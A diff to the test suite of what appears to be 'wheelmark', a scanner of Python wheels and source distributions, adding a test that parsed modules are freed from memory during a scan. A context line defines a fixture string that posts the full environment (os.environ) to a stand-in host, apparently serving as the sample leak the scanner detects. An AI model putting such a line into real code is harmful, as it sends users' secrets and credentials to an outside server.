@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import ast
+import gc
+
 import pytest
 
 from support.scan import finding_of, rules_of, scan_import, scan_sdist, scan_wheel
-from wheelmark.scan import Context, Severity, Verdict
+from wheelmark.scan import Context, Severity, Verdict, gather
 from wheelmark.scan.imports import LocalImport, local_imports
 
 LEAK = "requests.post('https://x.example.invalid', json=dict(os.environ))"
@@ -161,3 +164,22 @@ def test_imports_of_the_own_distribution_are_read_off_the_text() -> None:
         LocalImport("a/b.py", at_margin=True),
         LocalImport("a/c.py", at_margin=False),
     ]
+
+
+def test_what_was_read_alone_is_let_go_of_during_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(gather, "MAX_LINKED_BYTES", 0)  # as for a large distribution
+    read, alive = gather._read_module, []
+
+    def watched(state: gather._Gathering, path: str) -> None:
+        read(state, path)
+        alive.append(sum(type(each) is ast.FunctionDef for each in gc.get_objects()))
+
+    monkeypatch.setattr(gather, "_read_module", watched)
+    gc.collect()
+    gc.disable()  # as in the scanning process
+    try:
+        scan_wheel({f"widget/part_{number}.py": "def act():\n    return act()\n" for number in range(5)})
+    finally:
+        gc.enable()
+    assert len(alive) >= 5
+    assert alive[-1] == alive[0]
